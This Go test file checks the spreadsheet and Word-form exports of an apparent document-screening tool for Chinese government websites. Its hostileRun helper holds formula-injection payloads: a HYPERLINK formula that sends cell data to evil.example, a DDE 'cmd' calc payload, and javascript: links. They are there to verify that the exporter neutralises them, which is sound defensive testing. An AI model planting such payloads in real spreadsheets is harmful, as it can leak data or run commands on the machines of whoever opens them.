package report

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"io"
	"strings"
	"testing"

	"prescreen/internal/cases"
	"prescreen/internal/document"
	"prescreen/internal/lang"
	"prescreen/internal/ziptest"
)

// hostileRun is a run whose texts try to become formulas and markup.
func hostileRun() *Run {
	run := generated(10, 6)
	texts := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"}
	for i := range run.Cases {
		c := &run.Cases[i]
		c.Title, c.Assignee, c.Note, c.Unit = texts[i], texts[i], "第一行\n"+texts[i], " "+texts[i]
		c.Finding.Excerpt = texts[i] + "</t></is></c>\x00\x1b_x0041_"
		c.Finding.URL = `javascript:alert("` + texts[i] + `")`
	}
	return run
}

func TestNoFormulaInCSV(t *testing.T) {
	var b bytes.Buffer
	if err := Render(&b, CSV, hostileRun(), generatedOptions(lang.Chinese)); err != nil {
		t.Fatal(err)
	}
	data, bom := strings.CutPrefix(b.String(), "\ufeff")
	if !bom {
		t.Error("no byte order mark")
	}
	rows, err := csv.NewReader(strings.NewReader(data)).ReadAll()
	if err != nil || len(rows) != 7 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, row := range rows {
		for j, cell := range row {
			if trimmed := strings.TrimLeft(cell, " "); trimmed != "" && strings.ContainsRune("=+-@\t\r", rune(trimmed[0])) {
				t.Errorf("row %d, column %d begins with what makes a formula: %q", i+1, j+1, cell)
			}
		}
	}
	if rows[0][1] != "问题编号" || rows[1][1] == "" {
		t.Errorf("columns %q, first row %q", rows[0], rows[1])
	}
}

// Every part of the workbook is XML, no cell is a formula, and only web
// addresses are links.
func TestWorkbookParts(t *testing.T) {
	for _, run := range []*Run{hostileRun(), generated(2000, 50), {}} {
		var b bytes.Buffer
		if err := Render(&b, XLSX, run, generatedOptions(lang.Chinese)); err != nil {
			t.Fatal(err)
		}
		ziptest.Each(t, b.Bytes(), func(name string, content []byte) {
			if err := wellFormed(content); err != nil {
				t.Errorf("%s: %v", name, err)
			}
			if bytes.Contains(content, []byte("<f>")) || bytes.Contains(content, []byte(`Target="javascript`)) {
				t.Errorf("%s holds a formula or a link that is no web address", name)
			}
		})
	}
}

func wellFormed(data []byte) error {
	dec := xml.NewDecoder(bytes.NewReader(data))
	for {
		if _, err := dec.Token(); errors.Is(err, io.EOF) {
			return nil
		} else if err != nil {
			return err
		}
	}
}

// The workbook and the forms are read by the parser that screens documents,
// which knows nothing of how they were written.
func TestReadByTheScreener(t *testing.T) {
	p, err := document.New(document.Config{OCR: document.OCR{Command: "-"}})
	if err != nil {
		t.Fatal(err)
	}
	defer p.Close()
	run := generated(400, 40)
	run.Cases[7].Note = "请于周五前办结 <&>"
	files := map[string]func(io.Writer) error{
		"a.xlsx": func(w io.Writer) error { return Render(w, XLSX, run, generatedOptions(lang.Chinese)) },
	}
	for _, f := range Forms() {
		files[string(f)+".docx"] = func(w io.Writer) error {
			return RenderForm(w, run, FormOptions{Options: generatedOptions(lang.Chinese), Form: f, Unit: "县教育局"})
		}
	}
	want := map[string][]string{
		"a.xlsx":             {"问题编号", "请于周五前办结 <&>", "县民政局", "复发", "未能检查的内容", "加密的 PDF，没有口令", "新发现"},
		"inspection.docx":    {"关于云岭县人民政府（示例）网站信息发布保密检查情况的报告", "一、检查依据", "疑似国家秘密标志", "加密的 PDF，没有口令", "2026年3月5日"},
		"rectification.docx": {"网站信息发布保密问题整改通知书", "县教育局：", "整改反馈单", "前完成整改"},
		"review.docx":        {"信息发布保密审查单", "机器预审结论", "承办人意见", "□公文类"},
	}
	for name, write := range files {
		var b bytes.Buffer
		if err := write(&b); err != nil {
			t.Fatal(err)
		}
		res, err := p.Parse(t.Context(), document.Input{Name: name, Data: bytes.NewReader(b.Bytes()), Size: int64(b.Len())})
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, problem := range res.Problems {
			t.Errorf("%s: %+v", name, problem)
		}
		var all strings.Builder
		for _, s := range res.Segments {
			all.WriteString(s.Text + "\n")
		}
		for _, s := range want[name] {
			if !strings.Contains(strings.ReplaceAll(all.String(), "\n", ""), s) {
				t.Errorf("%s: %q is missing", name, s)
			}
		}
		if strings.Contains(all.String(), "{{") {
			t.Errorf("%s: a field was left unfilled", name)
		}
	}
}

// A notice is for one unit and says nothing of what was dismissed or closed.
func TestRectificationIsOfOneUnit(t *testing.T) {
	run := generated(100, 60)
	run.Cases[1].State, run.Cases[1].Title = cases.Dismissed, "已判为误报的页面"
	var b bytes.Buffer
	if err := RenderForm(&b, run, FormOptions{Options: generatedOptions(lang.Chinese), Form: Rectification, Unit: "县民政局"}); err != nil {
		t.Fatal(err)
	}
	doc := partOf(t, b.Bytes(), documentPart)
	for _, s := range []string{">县教育局<", ">县政府办公室<", "已判为误报的页面"} {
		if strings.Contains(doc, s) {
			t.Errorf("the notice names %q", s)
		}
	}
	if !strings.Contains(doc, "县民政局") {
		t.Error("the unit is not named")
	}
}

func partOf(t *testing.T, data []byte, name string) string {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		t.Fatal(err)
	}
	r, err := zr.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	defer r.Close()
	content, err := io.ReadAll(r)
	if err != nil {
		t.Fatal(err)
	}
	return string(content)
}
